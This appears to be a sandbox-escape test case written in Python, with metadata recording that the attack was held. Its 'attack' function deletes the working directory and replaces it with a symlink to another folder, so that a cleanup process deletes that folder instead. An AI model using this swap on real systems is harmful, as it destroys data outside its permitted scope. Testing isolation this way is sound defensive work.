"""Put a link to somebody else's folder in place of its own, for whoever cleans up to follow.

Seen: held
Held from: weak
Limits: file_mb=1
Bare: none: nobody cleans up without a wall
"""

import os


def attack(target_folder, **others):
    place = os.getcwd()
    try:
        os.rmdir(place)
        os.symlink(target_folder, place)
    except OSError as error:
        return f"refused: {error}"
    return "swapped"
